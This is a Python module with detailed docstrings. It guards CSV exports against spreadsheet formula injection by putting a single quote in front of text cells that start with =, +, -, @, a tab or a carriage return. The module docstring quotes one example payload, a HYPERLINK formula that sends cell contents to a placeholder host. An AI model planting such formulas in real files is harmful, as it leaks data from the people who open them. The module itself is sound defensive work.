"""CSV injection: text cells that a spreadsheet would run as a formula are made inert.

A CSV file the project writes may echo text that came from outside (the rejects file repeats
the cells of the input as written; exports carry descriptions and place names). Excel and
LibreOffice treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and a
leading tab or carriage return can hide such a start; a formula like
``=HYPERLINK("http://x/?leak="&A1,"y")`` leaks data or runs commands when the file is opened.
Following OWASP ("CSV Injection"), such a cell gets a single quote in front, which spreadsheets
show as text and which a reader of the file can strip. The CSV writer's own quoting keeps a
cell that contains the separator, quotes or line breaks one cell.

Only text is changed: numbers written from a numeric column (``-12.5`` of a float column) stay
numbers. Text that merely looks like a negative number (``"-12.5"`` in a text column) is
prefixed too, as OWASP recommends for anything starting with ``-``.

References
----------
OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

from collections.abc import Iterable

import pandas as pd

__all__ = ["FORMULA_STARTS", "neutralise_csv_cell", "neutralise_csv_frame"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
#: What goes in front of such a cell.
_PREFIX = "'"
_PATTERN = "^[" + "".join("\\" + c if c in "-\\]^" else c for c in FORMULA_STARTS) + "]"


def neutralise_csv_cell(value: str) -> str:
    """``value`` with a single quote in front when it starts like a formula.

    Parameters
    ----------
    value
        The text of one cell.

    Returns
    -------
    str
        ``"'" + value`` when ``value`` starts with ``=``, ``+``, ``-``, ``@``, a tab or a
        carriage return; otherwise ``value`` unchanged.

    Examples
    --------
    >>> neutralise_csv_cell("=1+1")
    "'=1+1"
    >>> neutralise_csv_cell("Kungsgatan 1")
    'Kungsgatan 1'
    """
    return _PREFIX + value if value.startswith(FORMULA_STARTS) else value


def _is_text(values: pd.Series) -> bool:
    return isinstance(values.dtype, pd.StringDtype) or values.dtype == object


def neutralise_csv_frame(
    frame: pd.DataFrame, *, columns: Iterable[str] | None = None
) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are safe to write to a CSV file.

    Parameters
    ----------
    frame
        The table about to be written.
    columns
        The columns to treat; default every text column (``string`` or ``object`` dtype).
        Numeric, boolean and time columns are never changed.

    Returns
    -------
    pandas.DataFrame
        ``frame`` with :func:`neutralise_csv_cell` applied to each text cell (missing cells
        stay missing; non-text objects in an ``object`` column are left as they are).
    """
    out = frame.copy()
    names = list(frame.columns) if columns is None else list(columns)
    for name in names:
        values = out[name]
        if not _is_text(values):
            continue
        text = values.astype("string")
        risky = text.str.contains(_PATTERN, regex=True).fillna(False).to_numpy(dtype=bool)
        if values.dtype == object:  # only real strings: other objects are not text cells
            risky &= values.map(lambda v: isinstance(v, str)).to_numpy(dtype=bool)
        if risky.any():
            fixed = values.copy()
            fixed[risky] = _PREFIX + text[risky]
            out[name] = fixed
    return out
